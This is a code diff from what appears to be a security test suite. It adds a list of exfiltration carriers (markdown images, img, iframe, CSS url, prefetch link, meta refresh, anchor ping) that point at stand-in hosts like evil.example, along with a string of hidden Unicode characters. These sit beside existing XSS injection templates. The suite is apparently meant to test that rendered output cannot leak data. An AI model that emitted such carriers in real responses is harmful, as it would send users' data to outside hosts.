@@ -26,3 +26,13 @@ _TEMPLATES = [
     "\u202e<img src=x onerror={}>", "';{};//", '";{};//', "\\';{};//", "*/{}/*", "\u003cscript\u003e{}\u003c/script\u003e",
 ]  # fmt: skip
 PAYLOADS = [one.format(RUN) for one in (*_TAGS, *_MARKDOWN, *_TEMPLATES)]
+
+# what would carry words away, by being shown or by being looked at: pictures, links, references, hidden characters
+_AWAY = ("https://evil.example/?q={}", "//evil.example/{}", "http://127.0.0.2:9/{}", "https://evil.example/{}.svg#x")
+_CARRIERS = [
+    "![x]({})", "![]({} 'x')", "![x][a]\n\n[a]: {}", "[![x]({})](https://evil.example/)", "<img src='{}'>", "<img srcset='{} 2x'>", "<picture><source srcset='{}'><img></picture>",
+    "<link rel=prefetch href='{}'>", "<link rel=stylesheet href='{}'>", "<iframe src='{}'></iframe>", "<object data='{}'></object>", "<video src='{}' poster='{}' autoplay></video>",
+    "<div style='background:url({})'>x</div>", "<style>@import '{}';</style>", "<svg><image href='{}'/><use href='{}'/></svg>", "<a href='{}' ping='{}'>x</a>", "<meta http-equiv=refresh content='0;url={}'>", "[open this]({})",
+]  # fmt: skip
+LEAKS = [one.replace("{}", away.format("FLOW-1")) for one in _CARRIERS for away in _AWAY]
+HIDDEN = "".join(map(chr, (0x200B, 0x2060, 0xFE00, 0x202E, 0xFEFF, *(0xE0000 + ord(mark) for mark in "leak"))))
